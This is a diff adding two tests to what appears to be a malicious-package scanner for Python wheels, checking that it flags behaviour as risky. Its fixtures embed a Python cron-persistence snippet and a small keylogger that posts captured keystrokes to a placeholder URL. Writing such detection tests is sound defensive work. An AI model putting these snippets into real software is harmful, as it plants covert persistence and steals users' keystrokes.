@@ -172,6 +172,20 @@ class ContentRuleTest {
         .isEqualTo(RiskLevel.HIGH);
   }
 
+  @Test
+  void aCrontabReplacedThroughStandardInputIsPersistence() {
+    String cron =
+        "import subprocess, sys\n"
+            + "line = f'*/30 * * * * {sys.executable} -m pkg.sync\\n'\n"
+            + "now = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\n"
+            + "subprocess.run(['crontab', '-'], input=now + line, text=True)\n";
+    String listed = "import subprocess\nsubprocess.run(['crontab', '-l'])\n";
+
+    assertThat(only(check(wheelWith("pkg/schedule.py", cron)), "installs-autostart").level())
+        .isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/schedule.py", listed))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
@@ -198,6 +212,19 @@ class ContentRuleTest {
 
       assertThat(only(check(wheelWith("pkg/snap.py", shot)), "screenshot-sent").level())
           .isEqualTo(RiskLevel.CRITICAL);
+    }
+
+    @Test
+    void aFunctionImportedByItsOwnNameFromAModuleThePatternsKnowIsThatModulesFunction() {
+      String keys =
+          "import requests\nfrom keyboard import read_event\n\ntyped = []\n"
+              + "while len(typed) < 300:\n    typed.append(read_event().name)\n"
+              + "requests.post(URL, json={'t': typed})\n";
+      String unrelated = keys.replace("from keyboard import", "from pkg.events import");
+
+      assertThat(only(check(wheelWith("pkg/keys.py", keys)), "keylogger-sent").level())
+          .isEqualTo(RiskLevel.CRITICAL);
+      assertThat(worst(check(wheelWith("pkg/keys.py", unrelated)))).isEqualTo(RiskLevel.NONE);
     }
 
     @Test
